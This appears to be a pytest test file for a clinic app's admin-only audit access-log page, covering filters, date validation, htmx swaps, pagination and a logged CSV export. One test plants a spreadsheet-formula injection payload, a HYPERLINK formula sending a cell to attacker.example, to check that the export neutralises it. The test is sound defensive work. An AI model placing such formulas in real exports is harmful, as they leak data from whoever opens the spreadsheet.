"""The access log page: filters a privacy review needs, pages that keep them, a CSV export that is itself logged."""

import csv
import datetime as dt
import io

import pytest
import time_machine

from apps.audit.models import AccessLog
from apps.audit.services import access_log_write
from apps.core import clock
from tests.factories import PatientFactory

pytestmark = pytest.mark.django_db

URL = "/audit/access-log/"
CHART_VIEWED = '<td title="chart_view">Viewed chart</td>'


def _read(actor, patient, *, allowed=True):
    return access_log_write(actor=actor, action="chart_view", subject=patient, patient_id=patient.pk, allowed=allowed)


@pytest.fixture
def log(personas):
    _read(personas.therapist, personas.patient)
    _read(personas.front_desk, personas.patient)
    _read(personas.front_desk, personas.other_patient, allowed=False)
    _read(personas.billing, personas.other_patient)


def test_only_admins_read_the_access_log(personas, login, log):
    for persona in ("therapist", "front_desk", "billing", "patient_user"):
        assert login(getattr(personas, persona)).get(URL).status_code == 403
    assert login(personas.admin).get(URL).status_code == 200


def test_filters_by_patient_staff_member_and_refusals(personas, login, log):
    admin = login(personas.admin)
    by_patient = admin.get(URL, {"patient": personas.patient.pk}).content.decode()
    assert f"Access log: {personas.patient.display_name}" in by_patient
    assert by_patient.count(CHART_VIEWED) == 2

    by_actor = admin.get(URL, {"actor": personas.front_desk.pk}).content.decode()
    assert by_actor.count(CHART_VIEWED) == 2
    assert personas.other_patient.display_name in by_actor

    refused = admin.get(URL, {"denied_only": "on"}).content.decode()
    assert refused.count(CHART_VIEWED) == 1 and "refused" in refused


def test_each_row_says_what_was_done_to_which_record_in_words(personas, login, log):
    body = login(personas.admin).get(URL).content.decode()
    assert f'<td title="patients.patient">Patient #{personas.patient.pk}</td>' in body
    assert ">chart_view<" not in body and ">patients.patient #" not in body


@pytest.mark.parametrize(
    ("code", "words"),
    [
        ("billing_ledger_view", "Viewed billing ledger"),
        ("note_sign", "Signed note"),
        ("intake.view_signature", "Viewed signed intake form"),
        ("two_step_off", "Turned off two-step sign-in"),
        ("something_new", "Something new"),
    ],
)
def test_an_action_code_reads_as_what_happened(code, words):
    from apps.audit.words import action_words

    assert action_words(code) == words


def test_a_record_of_a_kind_no_longer_known_stays_as_it_was_logged():
    from apps.audit.words import record_words

    assert record_words("billing.slidingscaleassessment", "7") == "Sliding scale assessment #7"
    assert record_words("retired.thing", "3") == "retired.thing #3"


def test_filters_by_clinic_days(personas, login, log):
    with time_machine.travel(clock.local_datetime(dt.date(2026, 3, 2), dt.time(23, 30)), tick=False):
        _read(personas.therapist, personas.other_patient)
    admin = login(personas.admin)
    that_day = admin.get(URL, {"since": "2026-03-02", "until": "2026-03-02"}).content.decode()
    assert that_day.count(CHART_VIEWED) == 1 and "Mar 2, 2026 11:30 PM" in that_day
    assert CHART_VIEWED not in admin.get(URL, {"since": "2026-03-03", "until": "2026-03-03"}).content.decode()
    backwards = admin.get(URL, {"since": "2026-03-03", "until": "2026-03-02"})
    assert backwards.status_code == 422 and "The end date is before the start date." in backwards.content.decode()


@pytest.mark.parametrize("dates", [{"until": "9999-12-31"}, {"since": "0001-01-01"}, {"until": "soon"}])
def test_a_mistyped_date_is_a_form_error_and_the_export_is_refused(personas, login, log, dates):
    admin = login(personas.admin)
    page = admin.get(URL, dates)
    assert page.status_code == 422 and page.context["form"].errors
    assert 'id="error-summary"' in page.content.decode()
    export = admin.get(URL, {**dates, "format": "csv"})
    assert export.status_code == 422 and export.context["form"].errors
    assert 'id="error-summary"' in export.content.decode() and export["Content-Type"].startswith("text/html")
    assert not AccessLog.objects.filter(action="access_log_export").exists()


def test_filters_refused_by_htmx_come_back_with_the_summary_above_the_rows_as_htmx_swaps_only_successes(
    personas, login, log
):
    rows = login(personas.admin).get(URL, {"since": "2026-03-03", "until": "2026-03-02"}, HTTP_HX_REQUEST="true")
    html = rows.content.decode()
    assert rows.status_code == 200 and 'id="error-summary"' in html and "<h1>" not in html
    assert "The end date is before the start date." in html
    # In place of the page's own summary, out of band: one summary on the page, never two.
    assert '<div id="refusal" hx-swap-oob="true">' in html and html.count('id="error-summary"') == 1


def test_a_filter_fixed_by_htmx_clears_the_summary_and_the_field_errors_the_page_came_with(personas, login, log):
    admin = login(personas.admin)
    page = admin.get(URL, {"since": "2026-03-03", "until": "2026-03-02"}).content.decode()
    assert '<div id="refusal">' in page and 'id="error-summary"' in page
    fixed = admin.get(URL, {"since": "2026-03-02", "until": "2026-03-03"}, HTTP_HX_REQUEST="true").content.decode()
    assert '<div id="refusal" hx-swap-oob="true"></div>' in fixed and 'id="error-summary"' not in fixed
    # The filters' fields come along out of band too, without the error the page showed beside the end date.
    assert '<div id="filter-fields" class="field-group" hx-swap-oob="true">' in fixed and "errorlist" not in fixed


def test_filters_that_are_fine_answer_200_without_a_summary(personas, login, log):
    page = login(personas.admin).get(URL, {"since": "2026-03-02", "until": "2026-03-03"})
    assert page.status_code == 200 and 'id="error-summary"' not in page.content.decode()


def test_pages_keep_the_filters(personas, login):
    for _ in range(101):
        _read(personas.therapist, personas.patient)
    _read(personas.therapist, personas.other_patient)
    first = login(personas.admin).get(URL, {"patient": personas.patient.pk}).content.decode()
    assert f"?patient={personas.patient.pk}&amp;page=2" in first
    second = login(personas.admin).get(URL, {"patient": personas.patient.pk, "page": 2}).content.decode()
    assert second.count(CHART_VIEWED) == 1


def test_the_page_runs_a_constant_number_of_queries(personas, login, django_assert_max_num_queries):
    admin = login(personas.admin)
    for patient in [PatientFactory() for _ in range(30)]:
        _read(personas.front_desk, patient)
    with django_assert_max_num_queries(10):  # and the menu's counts of waiting referrals and the work queue
        assert admin.get(URL).status_code == 200


def test_the_csv_export_holds_the_filtered_rows_and_is_logged(personas, login, log):
    response = login(personas.admin).get(URL, {"actor": personas.front_desk.pk, "format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:5] == ["when", "staff or patient", "email", "action", "action in words"]
    assert {row[8] for row in rows[1:]} == {personas.patient.display_name, personas.other_patient.display_name}
    assert {row[5] for row in rows[1:]} == {"yes", "refused"}
    assert {(row[3], row[4]) for row in rows[1:] if row[3] == "chart_view"} == {("chart_view", "Viewed chart")}
    export = AccessLog.objects.filter(action="access_log_export").get()
    assert export.actor == personas.admin and export.detail["actor"]


def test_the_chart_links_admins_to_its_access_log(personas, login):
    html = login(personas.admin).get(f"/patients/{personas.patient.pk}/").content.decode()
    assert f"/audit/access-log/?patient={personas.patient.pk}" in html
    html = login(personas.front_desk).get(f"/patients/{personas.patient.pk}/").content.decode()
    assert "/audit/access-log/" not in html


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
def test_the_csv_export_never_hands_a_spreadsheet_a_formula(personas, login, start):
    formula = f'{start}HYPERLINK("http://attacker.example/?x="&A1,"Click")'
    patient = PatientFactory(preferred_name="", legal_first_name=formula, legal_last_name="Doe")
    staff = personas.front_desk
    staff.first_name, staff.last_name = "-2+3", "@SUM(A1)"
    staff.save()
    _read(staff, patient)
    response = login(personas.admin).get(URL, {"patient": patient.pk, "format": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    read = next(row for row in rows[1:] if row[3] == "chart_view" and row[2] == staff.email)
    assert read[8].startswith("'") and formula in read[8]
    assert read[1] == "'-2+3 @SUM(A1)"


def test_a_charts_access_log_leads_back_to_the_chart_and_says_when_in_words(personas, login, log):
    """Opened from a chart's "Who opened this chart", the log leads back to that chart; each row says when as the
    other staff lists do (Dec 5, 2026 6:00 PM), not as a database timestamp."""
    body = login(personas.admin).get(URL, {"patient": personas.patient.pk}).content.decode()
    assert f'href="/patients/{personas.patient.pk}/"' in body
    read = AccessLog.objects.filter(patient_id=personas.patient.pk).first()
    at = read.at.astimezone(clock.clinic_tz())
    assert f"<td>{at:%b} {at.day}, {at.year} " in body
    assert f"{at:%Y-%m-%d %H:%M}" not in body
